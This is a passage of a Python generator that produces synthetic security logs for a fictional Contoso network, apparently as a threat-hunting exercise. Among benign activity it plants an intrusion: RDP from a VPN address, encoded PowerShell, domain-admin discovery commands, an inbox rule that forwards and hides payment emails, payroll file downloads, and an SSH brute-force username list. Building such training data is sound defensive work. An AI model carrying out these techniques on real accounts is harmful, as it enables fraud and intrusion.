     "C:\\Windows\\CCM\\CcmExec.exe", 1),
    ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe",
     '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe" SignatureUpdate '
     '-ScheduleJob -RestrictPrivileges', "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\"
                                         "MsMpEng.exe", 3),
    (SYS32 + "\\sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", SYS32 + "\\services.exe", 1),
    (SYS32 + "\\SearchProtocolHost.exe", '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipe'
                                         'MssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646 '
                                         '"Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; '
                                         'Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\'
                                         'Temp\\usgthrsvc" "DownLevelDaemon" ', SYS32 + "\\SearchIndexer.exe", 2),
    (PS_EXE, "powershell.exe -NoLogo -NonInteractive -EncodedCommand " + b64_utf16(ADMIN_SCRIPTS[0]),
     "C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe", 0.12),
    (PS_EXE, "powershell.exe -NoProfile -NonInteractive -EncodedCommand " + b64_utf16(ADMIN_SCRIPTS[3]),
     "C:\\Windows\\CCM\\CcmExec.exe", 0.12),
    (SYS32 + "\\gpupdate.exe", "gpupdate.exe /target:computer", SYS32 + "\\svchost.exe", 1),
]
SERVER_PROCESSES = {
    DC: [(SYS32 + "\\dfsrs.exe", "C:\\Windows\\system32\\DFSRs.exe", SYS32 + "\\services.exe", 1),
         (SYS32 + "\\dns.exe", "C:\\Windows\\system32\\dns.exe", SYS32 + "\\services.exe", 1)],
    WEB: [("C:\\Windows\\System32\\inetsrv\\w3wp.exe",
           'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "ContosoIntranet" -v "v4.0" -l "webengine4.dll" -a '
           '\\\\.\\pipe\\iisipm5c0d3b9e-6c1a-4b1f-9f43-0e8a7d2b1c55 -h "C:\\inetpub\\temp\\apppools\\ContosoIntranet\\'
           'ContosoIntranet.config" -w "" -m 0 -t 20 -ta 0', SYS32 + "\\svchost.exe", 3)],
    FS: [(SYS32 + "\\vssvc.exe", "C:\\Windows\\system32\\vssvc.exe", SYS32 + "\\services.exe", 1)],
}


def gen_securityevent():
    users = USER_LIST
    # Workstation days: the owner logs on in the morning, works, locks/unlocks, logs off in the evening.
    for host, ip, _, _, _, owner_key in WORKSTATIONS:
        owner = USERS[owner_key]
        items = user_processes(owner)
        for k in range(1, DAYS + 1):
            day_start = END_T - k * DAY - owner["tz"] * HOUR
            wd = (0 - k) % 7
            if wd >= 5 and not (RNG.random() < 0.12):
                continue
            if RNG.random() < 0.07:      # leave / sick day
                continue
            t0 = day_start + 8 * HOUR + RNG.randrange(0, 90 * MINUTE)
            length = 8 * HOUR + RNG.randrange(0, 150 * MINUTE) if wd < 5 else RNG.randrange(40 * MINUTE, 3 * HOUR)
            if t0 < START_T or t0 + length >= END_T:
                continue
            lid = logon(t0, host, subj(owner), 2 if RNG.random() < 0.85 else 11, ip="127.0.0.1", port="0",
                        workstation=short(host), duration=length, privileged=owner["admin"],
                        process=SYS32 + "\\svchost.exe")
            for _ in range(RNG.randrange(1, 3)):  # unlocks after lunch / meetings
                tu = t0 + RNG.randrange(2 * HOUR, max(2 * HOUR + 1, length - 10 * MINUTE))
                logon(tu, host, subj(owner), 7, ip="127.0.0.1", port="0", workstation=short(host),
                      duration=RNG.randrange(TPS, 3 * TPS), process=SYS32 + "\\svchost.exe")
            for _ in range(RNG.randrange(9, 17)):
                image, cmd, parent, _w = wpick([((a, b, c, d), d) for a, b, c, d in items])
                tp = t0 + RNG.randrange(10 * TPS, length)
                process(tp, host, subj(owner), image, cmd, parent, logon_id=lid,
                        elevated=owner["admin"] and image == PS_EXE)

    # Network logons to the file server and the DC, all day long for everyone (Kerberos, LogonType 3).
    for _ in range(1350):
        user = pick(users)
        t = work_time(user["tz"])
        host = FS if RNG.random() < 0.7 else DC
        logon(t, host, subj(user), 3, ip=user["internal_ip"], port=str(RNG.randrange(49152, 65535)),
              duration=RNG.randrange(2 * TPS, 40 * MINUTE))

    # Computer accounts authenticating to the DC (group policy, Kerberos tickets), around the clock.
    for _ in range(380):
        host, ip = pick(WORKSTATIONS + SERVERS)[:2]
        if host == DC:
            continue
        logon(any_time(), DC, (f"{short(host)}$", NETBIOS, f"{DOMAIN_SID}-{2000 + WINDOWS.index(HOST_INFO[host])}"),
              3, ip=ip, port=str(RNG.randrange(49152, 65535)), duration=RNG.randrange(TPS, 5 * TPS))

    # Services starting as SYSTEM (4624 type 5 + 4672) on every Windows host.
    for _ in range(420):
        host = pick(WINDOWS)[0]
        logon(any_time(), host, SYSTEM, 5, privileged=True, process=SYS32 + "\\services.exe")

    # SYSTEM and server process creation around the clock.
    for _ in range(1150):
        host = pick(WINDOWS)[0]
        pool = SYSTEM_PROCESSES + SERVER_PROCESSES.get(host, []) * 3
        image, cmd, parent, _w = wpick([((a, b, c, d), d) for a, b, c, d in pool])
        process(any_time(), host, SYSTEM, image, cmd, parent)

    # Nightly backup on the file server: svc-backup batch logon + the backup script.
    svc = ("svc-backup", NETBIOS, SERVICE_ACCOUNTS["svc-backup"][0])
    for k in range(1, DAYS + 1):
        t = END_T - k * DAY + 10 * HOUR + RNG.randrange(0, 4 * MINUTE)    # 02:00 Pacific
        lid = logon(t, FS, svc, 4, duration=RNG.randrange(25 * MINUTE, 70 * MINUTE), privileged=True,
                    process=SYS32 + "\\svchost.exe")
        process(t + RNG.randrange(TPS, 3 * TPS), FS, svc, PS_EXE,
                "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
                SYS32 + "\\svchost.exe", elevated=True, logon_id=lid)
        process(t + RNG.randrange(4 * TPS, 9 * TPS), FS, svc, SYS32 + "\\robocopy.exe",
                '"C:\\Windows\\system32\\Robocopy.exe" D:\\Shares \\\\nas01\\backup\\fs01 /MIR /R:1 /W:5 /NP '
                '/LOG:C:\\scripts\\logs\\robocopy.log', PS_EXE, elevated=True, logon_id=lid)

    # Admins: RDP to servers, elevated consoles, a few encoded maintenance commands.
    for _ in range(46):
        admin = pick(ADMINS)
        t = work_time(admin["tz"], weekend_weight=0.05)
        host = pick([DC, DC, FS, WEB])
        length = RNG.randrange(10 * MINUTE, 90 * MINUTE)
        if t + length >= END_T:
            continue
        lid = logon(t, host, subj(admin), 10, ip=admin["internal_ip"], port="0",
                    workstation=short(admin["workstation"] or "WKS-IT-01"), duration=length, privileged=True,
                    process=SYS32 + "\\svchost.exe")
        admin_cmds = [
            (SYS32 + "\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', EXPLORER),
            (PS_EXE, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', EXPLORER),
            (SYS32 + "\\mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"', EXPLORER),
            (SYS32 + "\\repadmin.exe", "repadmin  /replsummary", SYS32 + "\\cmd.exe"),
            (SYS32 + "\\dcdiag.exe", "dcdiag  /q", SYS32 + "\\cmd.exe"),
            (SYS32 + "\\cmd.exe", "cmd.exe /c ipconfig /all", PS_EXE),
            (SYS32 + "\\ipconfig.exe", "ipconfig  /all", SYS32 + "\\cmd.exe"),
            (PS_EXE, "powershell.exe -NoProfile -EncodedCommand " + b64_utf16(pick(ADMIN_SCRIPTS[1:3])),
             SYS32 + "\\cmd.exe", 0.25),
            (SYS32 + "\\w32tm.exe", "w32tm  /query /status", SYS32 + "\\cmd.exe"),
        ]
        for _ in range(RNG.randrange(2, 6)):
            image, cmd, parent = wpick([(c[:3], c[3] if len(c) > 3 else 1) for c in admin_cmds])
            process(t + RNG.randrange(30 * TPS, length), host, subj(admin), image, cmd, parent, elevated=True,
                    logon_id=lid)

    # Benign failed logons: typos at the lock screen, a printer with an expired service-account password.
    for _ in range(95):
        user = pick(users)
        t = work_time(user["tz"])
        if user["workstation"] and RNG.random() < 0.6:
            failed_logon(t, user["workstation"], user["sam"], 2, "127.0.0.1", workstation=short(user["workstation"]),
                         process=SYS32 + "\\svchost.exe")
        else:
            failed_logon(t, FS, user["sam"], 3, user["internal_ip"], lproc="NtLmSsp ", lpkg="NTLM")
    for _ in range(60):
        failed_logon(work_time(-8, weekend_weight=0.0), FS, "svc-scanner", 3, "10.0.4.50", lproc="NtLmSsp ",
                     lpkg="NTLM", workstation="PRN-MFP-01")

    # The intrusion on WKS-FIN-07 (END-2d): RDP from the VPN pool, then PowerShell and discovery.
    victim = subj(VICTIM)
    lid = logon(RDP_LOGON, VICTIM_HOST, victim, 10, ip=VPN_IP, port="0", workstation=ATTACKER_WORKSTATION,
                duration=41 * MINUTE + 17 * TPS, process=SYS32 + "\\svchost.exe")
    ps_pid = "0x1f34"
    process(ENCODED_PS, VICTIM_HOST, victim, PS_EXE, ENCODED_CMDLINE, EXPLORER, logon_id=lid, pid=ps_pid)
    process(WHOAMI, VICTIM_HOST, victim, SYS32 + "\\cmd.exe", "cmd.exe /c whoami /all", PS_EXE, logon_id=lid,
            pid="0x2210", parent_pid=ps_pid)
    process(WHOAMI + 3 * TPS // 10, VICTIM_HOST, victim, SYS32 + "\\whoami.exe", "whoami  /all", SYS32 + "\\cmd.exe",
            logon_id=lid, pid="0x1e4c", parent_pid="0x2210")
    process(NET_GROUP, VICTIM_HOST, victim, SYS32 + "\\net.exe", 'net group "Domain Admins" /domain', PS_EXE,
            logon_id=lid, pid="0x1b5c", parent_pid=ps_pid)
    process(NET_GROUP + 2 * TPS // 10, VICTIM_HOST, victim, SYS32 + "\\net1.exe",
            'C:\\Windows\\system32\\net1  group "Domain Admins" /domain', SYS32 + "\\net.exe", logon_id=lid,
            pid="0x2c6c", parent_pid="0x1b5c")
    process(PLAIN_B64_PS, VICTIM_HOST, victim, PS_EXE, PLAIN_B64_CMDLINE, PS_EXE, logon_id=lid, pid="0x2b08",
            parent_pid=ps_pid)


COMPUTER_IDS = {c[0]: guid() for c in COMPUTERS}
HOST_INFO = {c[0]: c for c in COMPUTERS}


# ---------------------------------------------------------------------------------------------------------------
# OfficeActivity
# ---------------------------------------------------------------------------------------------------------------

ORG_NAME = "contoso.onmicrosoft.com"
EXO_SERVERS = ["DM6PR11MB4691 (15.20.7181.017)", "BY5PR17MB3922 (15.20.7181.019)", "SA1PR19MB5130 (15.20.7159.030)",
               "LO2P265MB5412 (15.20.7181.018)"]
SP_FILES = {
    "Finance": ["Budget FY24.xlsx", "Q4-Forecast.xlsx", "Month-End Close Checklist.docx", "AP Aging Dec-2023.xlsx",
                "Vendor Master.xlsx", "Expense Policy 2024.pdf"],
    "HR": ["Onboarding checklist.docx", "Holiday calendar 2024.pdf", "Benefits overview.pptx", "Org chart.vsdx"],
    "IT": ["Server inventory.xlsx", "Patch schedule Jan.xlsx", "Runbook - DC restore.docx", "Network diagram.vsdx"],
    "Engineering": ["Release plan.docx", "Architecture overview.pptx", "API spec v3.docx", "Sprint 42 notes.docx"],
    "Sales": ["Pipeline Q1.xlsx", "Pricing 2024.xlsx", "Customer deck.pptx", "Territory plan.xlsx"],
    "Executive": ["Board deck.pptx", "Strategy 2024.docx", "KPI dashboard.xlsx"],
    "Marketing": ["Campaign plan.docx", "Brand guidelines.pdf", "Webinar schedule.xlsx", "Press release draft.docx"],
    "Legal": ["NDA template.docx", "Contract review log.xlsx", "Privacy policy v7.docx"],
}
PAYROLL_FILES = ["Payroll-2023-Q4.xlsx", "Wire-Transfer-Approvals-Jan2024.xlsx", "Bank-Accounts-Vendors.xlsx"]
MAIL_SUBJECTS = ["Re: Q4 numbers", "Weekly sync notes", "Re: Invoice 88213", "Meeting follow-up", "Fw: Travel plans",
                 "Re: Budget review", "Lunch & learn on Thursday", "Re: Customer escalation", "Timesheet reminder",
                 "Re: Release go/no-go", "Updated agenda", "Re: Contract redlines"]
TEAMS = [("Finance Team", "Month-End Close"), ("Engineering", "Releases"), ("All Company", "General"),
         ("IT Ops", "Incidents"), ("Sales EMEA", "Deals"), ("HR", "General")]
TEAM_GUIDS = {name: guid() for name, _ in TEAMS}


def office(t, user, workload, record_type, operation, ip, result="Succeeded", **cells):
    emit("OfficeActivity", t, OfficeWorkload=workload, RecordType=record_type, Operation=operation,
         OrganizationId=AAD_TENANT_ID, OrganizationName=ORG_NAME, OfficeTenantId=AAD_TENANT_ID, UserId=user["upn"],
         UserKey=user["puid"], UserType="Regular", ClientIP=ip, ResultStatus=result, OfficeId=guid(),
         SourceSystem="OfficeActivityManager", **cells)


def exchange_item(t, user, ip, operation, ua, subject=None, external=False, record="ExchangeItem"):
    folder = {"Send": "\\Sent Items", "MoveToDeletedItems": "\\Inbox", "SoftDelete": "\\Deleted Items",
              "Update": "\\Inbox", "Create": "\\Drafts", "MailItemsAccessed": "\\Inbox"}[operation]
    item = {"ParentFolder": {"Path": folder},
            "Subject": subject or pick(MAIL_SUBJECTS)}
    if operation == "MailItemsAccessed":
        item = None
        record = "ExchangeItemAggregated"
    elif operation in ("MoveToDeletedItems", "SoftDelete"):
        record = "ExchangeItemGroup"
    client = "Client=OWA;Action=ViaProxy" if "Mozilla" in ua else "Client=MSExchangeRPC"
    office(t, user, "Exchange", record, operation, ip, MailboxOwnerUPN=user["upn"], MailboxGuid=user["mailbox_guid"],
           MailboxOwnerSid=user["sid"], LogonUserSid=user["sid"], Logon_Type="0", InternalLogonType=0,
           ClientInfoString=f"{client};{ua}" if "OWA" in client else client, Client_IPAddress=ip,
           ExternalAccess="true" if external else "false", OriginatingServer=pick(EXO_SERVERS),
           Item=dyn(item) if item else "", OfficeObjectId="",
           OperationProperties=dyn([{"Name": "MailAccessType", "Value": "Bind"},
                                    {"Name": "IsThrottled", "Value": "False"}]) if operation == "MailItemsAccessed"
           else None,
           Folders=dyn([{"Path": "\\Inbox"}]) if operation == "MailItemsAccessed" else "")


def sharepoint(t, user, ip, operation, ua, site, file_name, folder="Shared Documents", personal=False):
    if personal:
        base = f"https://contoso-my.sharepoint.com/personal/{user['key'].replace('.', '_')}_contoso_com/"
        folder = "Documents"
        workload = "OneDrive"
    else:
        base = f"https://contoso.sharepoint.com/sites/{site}/"
        workload = "SharePoint"
    ext = file_name.rsplit(".", 1)[-1]
    office(t, user, workload, "SharePointFileOperation" if operation.startswith("File") else
           "SharePointSharingOperation" if "Shar" in operation or "Link" in operation else "SharePoint",
           operation, ip, Site_Url=base, SourceRelativeUrl=folder, SourceFileName=file_name,
           SourceFileExtension=ext, ItemType="File", EventSource="SharePoint", UserAgent=ua,
           OfficeObjectId=f"{base}{folder}/{file_name}", Site_=SITE_GUIDS.get(site, ""), IsManagedDevice=ip !=
           ATTACKER_IP, ApplicationId="00000003-0000-0ff1-ce00-000000000000")


SITE_GUIDS = {dept: guid() for dept in SP_FILES}


def aad_logon(t, user, ip, ua, app="OfficeHome", ok=True):
    office(t, user, "AzureActiveDirectory", "AzureActiveDirectoryStsLogon", "UserLoggedIn" if ok else "UserLoginFailed",
           ip, result="Success" if ok else "Failed", AzureActiveDirectory_EventType="1", ActorIpAddress=ip,
           ApplicationId=APPS[app][0], UserAgent=ua, OfficeObjectId=APPS[app][0],
           ExtendedProperties=dyn([{"Name": "UserAgent", "Value": ua},
                                   {"Name": "RequestType", "Value": "OAuth2:Authorize"},
                                   {"Name": "ResultStatusDetail", "Value": "Success" if ok else "UserError"}]))


def inbox_rule(t, user, ip, operation, params):
    office(t, user, "Exchange", "ExchangeAdmin", operation, ip, result="True",
           Parameters=dyn([{"Name": k, "Value": v} for k, v in params]), ExternalAccess="false",
           OriginatingServer=pick(EXO_SERVERS), OfficeObjectId=f"{ORG_NAME}/Microsoft Exchange Hosted "
                                                               f"Organizations/{ORG_NAME}/{user['key']}\\{params[0][1]}",
           Client_IPAddress=ip, MailboxOwnerUPN=user["upn"], UserAgent="")


def gen_officeactivity(n=2900):
    for _ in range(n):
        user = pick(USER_LIST)
        t = work_time(user["tz"])
        ip, _asn, _city, mobile = user_public_ip(user, t)
        ua = user_agent(user["os"], user["browser"]) if not mobile else \
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) " \
            "Mobile/15E148 Outlook-iOS/4.2402"
        kind = wpick([("exchange", 34), ("sharepoint", 38), ("teams", 12), ("aad", 16)])
        if kind == "exchange":
            op = wpick([("MailItemsAccessed", 40), ("Send", 25), ("MoveToDeletedItems", 15), ("SoftDelete", 6),
                        ("Update", 8), ("Create", 6)])
            exchange_item(t, user, ip, op, ua if mobile or RNG.random() < 0.4 else "Microsoft Office/16.0 "
                                                                                     "(Windows NT 10.0; Microsoft "
                                                                                     "Outlook 16.0.17126)")
        elif kind == "sharepoint":
            op = wpick([("FileAccessed", 40), ("FileModified", 18), ("FilePreviewed", 12), ("FileUploaded", 8),
                        ("FileDownloaded", 8), ("PageViewed", 6), ("FileSyncDownloadedFull", 4),
                        ("SharingSet", 2), ("SharingInvitationCreated", 1.5), ("AnonymousLinkCreated", 0.5)])
            dept = user["dept"] if RNG.random() < 0.8 else pick(list(SP_FILES))
            if op == "PageViewed":
                sharepoint(t, user, ip, op, ua, "Intranet", "Home.aspx", folder="SitePages")
            else:
                sharepoint(t, user, ip, op, ua, dept, pick(SP_FILES[dept]), personal=RNG.random() < 0.2)
        elif kind == "teams":
            team, channel = pick(TEAMS)
            op = wpick([("TeamsSessionStarted", 80), ("MemberAdded", 8), ("ChannelAdded", 3), ("TabAdded", 4),
                        ("MeetingDetail", 5)])
            extra = {}
            if op != "TeamsSessionStarted":
                extra = dict(TeamName=team, TeamGuid=TEAM_GUIDS[team], ChannelName=channel, ChannelGuid="19:" +
                             guid().replace("-", "")[:32] + "@thread.tacv2")
            if op == "MemberAdded":
                other = pick(USER_LIST)
                extra["Members"] = dyn([{"DisplayName": other["display"], "Role": 1, "UPN": other["upn"]}])
            office(t, user, "MicrosoftTeams", "MicrosoftTeams", op, ip, UserAgent=ua, **extra)
        else:
            ok = RNG.random() > 0.03
            aad_logon(t, user, ip, ua, app=pick(["OfficeHome", "Office 365 Exchange Online", "SharePoint Online",
                                                  "Microsoft Teams"]), ok=ok)

    # A benign inbox rule (newsletters to a folder) as a distractor.
    u = USERS["olivia.taylor"]
    t = at(-11, "17:42:10")
    inbox_rule(t, u, OFFICE["US"][0], "New-InboxRule",
               [("Name", "Newsletters"), ("From", "news@industryweekly.com"), ("MoveToFolder", "Newsletters"),
                ("StopProcessingRules", "False")])

    # The attacker in mike.jones's mailbox.
    aad_logon(OWA_SIGNIN + 2 * TPS, VICTIM, ATTACKER_IP, ATTACKER_UA, app="Office 365 Exchange Online")
    exchange_item(OWA_SIGNIN + 40 * TPS, VICTIM, ATTACKER_IP, "MailItemsAccessed", ATTACKER_UA)
    inbox_rule(INBOX_RULE, VICTIM, ATTACKER_IP, "New-InboxRule",
               [("Name", INBOX_RULE_NAME), ("ForwardTo", FORWARD_TO),
                ("SubjectOrBodyContainsWords", "invoice;payment;wire;bank;transfer"), ("MarkAsRead", "True"),
                ("StopProcessingRules", "True"), ("AlwaysDeleteOutlookRulesBlob", "False"), ("Force", "False")])
    for i, f in enumerate(PAYROLL_FILES):
        sharepoint(FILE_DOWNLOADS + i * 23 * TPS, VICTIM, ATTACKER_IP, "FileDownloaded", ATTACKER_UA, "Finance", f,
                   folder="Shared Documents/Payroll")
    for t in ATTACKER_MAIL_SESSIONS:
        aad_logon(t + 2 * TPS, VICTIM, ATTACKER_IP, ATTACKER_UA, app="Office 365 Exchange Online")
        for j in range(RNG.randrange(1, 4)):
            exchange_item(t + (30 + j * 70) * TPS, VICTIM, ATTACKER_IP, "MailItemsAccessed", ATTACKER_UA)


# ---------------------------------------------------------------------------------------------------------------
# Syslog
# ---------------------------------------------------------------------------------------------------------------

SCANNER_IPS = []   # internet ssh scanners (filled in gen_syslog; reused by CommonSecurityLog and the TI feed)


def syslog(t, host, facility, severity, process_name, pid, message):
    emit("Syslog", t, Computer=host, EventTime=t, Facility=facility, HostIP=HOST_IP[host], HostName=host,
         ProcessID=pid, ProcessName=process_name, SeverityLevel=severity, SourceSystem="Linux",
         SyslogMessage=message)


def ssh_key_fp():
    return "SHA256:" + base64.b64encode(bytes(RNG.getrandbits(8) for _ in range(32))).decode().rstrip("=")


def ssh_attempts(t, host, ip, users, step_lo=2, step_hi=9, first_port=None):
    """An sshd password-guessing run; returns the time after it."""
    pid = RNG.randrange(20000, 60000)
    for i, user in enumerate(users):
        port = first_port if i == 0 and first_port else RNG.randrange(30000, 65000)
        if user == "root":
            syslog(t, host, "authpriv", "info", "sshd", pid,
                   f"Failed password for root from {ip} port {port} ssh2")
        else:
            syslog(t, host, "authpriv", "info", "sshd", pid, f"Invalid user {user} from {ip} port {port}")
            syslog(t + RNG.randrange(TPS, 3 * TPS), host, "authpriv", "info", "sshd", pid,
                   f"Failed password for invalid user {user} from {ip} port {port} ssh2")
        syslog(t + RNG.randrange(3 * TPS, 5 * TPS), host, "authpriv", "info", "sshd", pid,
               f"Connection closed by {'invalid user ' + user + ' ' if user != 'root' else 'authenticating user root '}"
               f"{ip} port {port} [preauth]")
        t += RNG.randrange(step_lo * TPS, step_hi * TPS)
        pid += RNG.randrange(1, 40)
    return t


GUESSED_USERS = ["admin", "root", "test", "oracle", "ubuntu", "user", "postgres", "git", "ftpuser", "deploy",
                 "guest", "pi", "support", "administrator", "dev"]


def gen_syslog():
    hosts = ["lnx-web-01", "lnx-db-01"]
    # cron: hourly run-parts on both hosts, daily jobs.
    for host in hosts:
        for h in range(DAYS * 24):
            t = START_T + h * HOUR + 17 * MINUTE + RNG.randrange(0, 2 * TPS)
            syslog(t, host, "cron", "info", "CRON", RNG.randrange(1000, 65000),
                   "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)")
        for k in range(1, DAYS + 1):
            day = END_T - k * DAY
            t = day + 6 * HOUR + 25 * MINUTE + RNG.randrange(0, 3 * TPS)
            pid = RNG.randrange(1000, 65000)
            syslog(t, host, "cron", "info", "CRON", pid,
                   "(root) CMD (test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; })")
            for msg in ["Starting Daily apt download activities...", "apt-daily.service: Deactivated successfully.",
                        "Finished Daily apt download activities.", "Starting Rotate log files...",
                        "logrotate.service: Deactivated successfully.", "Finished Rotate log files.",
                        "Starting Cleanup of Temporary Directories...",
                        "systemd-tmpfiles-clean.service: Deactivated successfully."]:
                t += RNG.randrange(TPS, 40 * TPS)
                syslog(t, host, "daemon", "info", "systemd", 1, msg)
            if host == "lnx-db-01":
                t = day + 9 * HOUR + 30 * MINUTE + RNG.randrange(0, 2 * TPS)   # 01:30 Pacific
                pid = RNG.randrange(1000, 65000)
                syslog(t, host, "authpriv", "info", "CRON", pid,
                       "pam_unix(cron:session): session opened for user postgres(uid=114) by (uid=0)")
                syslog(t + TPS // 10, host, "cron", "info", "CRON", pid,
                       "(postgres) CMD (/usr/local/bin/pg_backup.sh >> /var/log/pg_backup.log 2>&1)")
                syslog(t + RNG.randrange(60 * TPS, 400 * TPS), host, "authpriv", "info", "CRON", pid,
                       "pam_unix(cron:session): session closed for user postgres")
            else:
                for half in (0, 12):
                    t = day + (half + 3) * HOUR + 11 * MINUTE + RNG.randrange(0, 2 * TPS)
                    syslog(t, host, "cron", "info", "CRON", RNG.randrange(1000, 65000),
                           "(root) CMD (test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep "
                           "int(rand(43200))' && certbot -q renew)")

    # postgres checkpoints on the database server.
    for _ in range(380):
        t = any_time()
        syslog(t, "lnx-db-01", "local0", "info", "postgres", RNG.randrange(900, 1200),
               f"[{RNG.randrange(1, 9)}-1] LOG:  checkpoint complete: wrote {RNG.randrange(20, 4000)} buffers "
               f"({RNG.randrange(1, 30) / 10:.1f}%); 0 WAL file(s) added, 0 removed, {RNG.randrange(0, 3)} recycled; "
               f"write={RNG.randrange(1000, 269000) / 1000:.3f} s, sync={RNG.randrange(1, 90) / 1000:.3f} s")

    # Admins and the deploy pipeline over ssh.
    session_no = {"lnx-web-01": 1200, "lnx-db-01": 800}
    for _ in range(95):
        who = wpick([("deploy", 5), ("jmiller", 2), ("swalker", 1), ("dwilson", 1)])
        src = {"deploy": pick(["10.0.5.32", "10.0.1.50"]), "jmiller": "10.0.4.10"}.get(who, pick(
            [u["internal_ip"] for u in ADMINS]))
        host = pick(hosts)
        t = work_time(-8, weekend_weight=0.05) if who != "deploy" else work_time(-8, weekend_weight=0.1)
        pid = RNG.randrange(20000, 60000)
        port = RNG.randrange(40000, 65000)
        uid = {"deploy": 1001, "jmiller": 1002, "swalker": 1003, "dwilson": 1004}[who]
        session_no[host] += RNG.randrange(1, 4)
        sn = session_no[host]
        key = "ED25519" if who == "deploy" else "RSA"
        lines = [
            ("auth", "info", "sshd", pid, f"Accepted publickey for {who} from {src} port {port} ssh2: {key} "
                                          f"{ssh_key_fp()}"),
            ("authpriv", "info", "sshd", pid, f"pam_unix(sshd:session): session opened for user {who}(uid={uid}) "
                                              f"by (uid=0)"),
            ("authpriv", "info", "systemd-logind", 812, f"New session {sn} of user {who}."),
            ("daemon", "info", "systemd", 1, f"Started Session {sn} of User {who}."),
        ]
        if who != "deploy":
            cmd = pick(["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get upgrade -y", "/usr/bin/journalctl -u "
                        "nginx --since today", "/usr/bin/systemctl status postgresql", "/usr/bin/tail -n 200 "
                        "/var/log/syslog", "/usr/sbin/ufw status verbose"])
            lines += [("authpriv", "notice", "sudo", RNG.randrange(20000, 60000),
                       f"{who} : TTY=pts/0 ; PWD=/home/{who} ; USER=root ; COMMAND={cmd}"),
                      ("authpriv", "info", "sudo", RNG.randrange(20000, 60000),
                       f"pam_unix(sudo:session): session opened for user root(uid=0) by {who}(uid={uid})")]
        else:
            lines += [("daemon", "info", "systemd", 1, "Reloading nginx.service - A high performance web server and a "
                                                      "reverse proxy server...")] if host == "lnx-web-01" else []
        lines += [
            ("auth", "info", "sshd", pid, f"Received disconnect from {src} port {port}:11: disconnected by user"),
            ("auth", "info", "sshd", pid, f"Disconnected from user {who} {src} port {port}"),
            ("authpriv", "info", "sshd", pid, "pam_unix(sshd:session): session closed for user " + who),
            ("authpriv", "info", "systemd-logind", 812, f"Session {sn} logged out. Waiting for processes to exit."),
        ]
        for facility, sev, proc, p, msg in lines:
            syslog(t, host, facility, sev, proc, p, msg)
            t += RNG.randrange(TPS // 5, 90 * TPS)

    # Firewall drops on the database server (someone's laptop probing postgres).
    for _ in range(60):
        t = any_time()
        src = pick(["10.0.5.32", "10.0.5.58", "10.0.8.70", "10.0.6.15"])
        syslog(t, "lnx-db-01", "kern", "warning", "kernel", None,
               f"[{RNG.randrange(100000, 999999)}.{RNG.randrange(0, 999999):06d}] [UFW BLOCK] IN=eth0 OUT= "
               f"MAC=00:0d:3a:5c:21:7e:00:12:34:56:78:9a:08:00 SRC={src} DST=10.0.1.40 LEN=60 TOS=0x00 PREC=0x00 TTL=63 "
               f"ID={RNG.randrange(1, 65535)} DF PROTO=TCP SPT={RNG.randrange(40000, 65000)} DPT=5432 WINDOW=64240 "
               f"RES=0x00 SYN URGP=0")

    # Internet ssh scanners hitting the public web server.
    for _ in range(8):
        SCANNER_IPS.append(internet_ip())
    for _ in range(26):
        ip = pick(SCANNER_IPS)
        t = any_time(hi=END_T - HOUR)
        n = RNG.randrange(2, 8)
        ssh_attempts(t, "lnx-web-01", ip, [pick(GUESSED_USERS) for _ in range(n)])

    # The attacker's NL address brute-forces sshd just before the password spray.
    SSH_BRUTE_ATTEMPTS.extend(["admin", "root", "admin", "test", "oracle", "ubuntu", "root", "user", "postgres",
                               "admin", "git", "root", "support", "administrator", "deploy", "root", "guest",
                               "ftpuser"])
    ssh_attempts(SSH_BRUTE_START, "lnx-web-01", SSH_BRUTE_IP, SSH_BRUTE_ATTEMPTS, 20, 40, first_port=52113)


SSH_BRUTE_ATTEMPTS = []


# ---------------------------------------------------------------------------------------------------------------
# AzureActivity
# ---------------------------------------------------------------------------------------------------------------

AZ_RESOURCES = [   # (resource group, provider, type path, name)
    ("rg-web-prod", "Microsoft.Compute", "virtualMachines", "vm-app-01"),
    ("rg-web-prod", "Microsoft.Compute", "virtualMachines", "vm-app-02"),
    ("rg-web-prod", "Microsoft.Web", "sites", "app-contoso-intranet"),
    ("rg-web-prod", "Microsoft.Network", "networkSecurityGroups", "nsg-web-prod"),
    ("rg-finance-prod", "Microsoft.Sql", "servers", "sql-contoso-finance"),
    ("rg-finance-prod", "Microsoft.Storage", "storageAccounts", "stcontosofinance01"),
    ("rg-finance-prod", "Microsoft.Compute", "virtualMachines", "vm-fin-report"),
    ("rg-identity", "Microsoft.KeyVault", "vaults", "kv-contoso-prod"),
    ("rg-monitoring", "Microsoft.OperationalInsights", "workspaces", "law-contoso-sentinel"),
    ("rg-dev-sandbox", "Microsoft.Compute", "virtualMachines", "vm-dev-01"),
    ("rg-dev-sandbox", "Microsoft.Compute", "virtualMachines", "vm-dev-02"),
    ("rg-dev-sandbox", "Microsoft.Storage", "storageAccounts", "stcontosodev"),
]
AZ_OPERATIONS = {   # provider/type -> [(operation suffix, friendly name, http method, weight)]
    "Microsoft.Compute/virtualMachines": [("start/action", "Start Virtual Machine", "POST", 4),
                                          ("deallocate/action", "Deallocate Virtual Machine", "POST", 4),
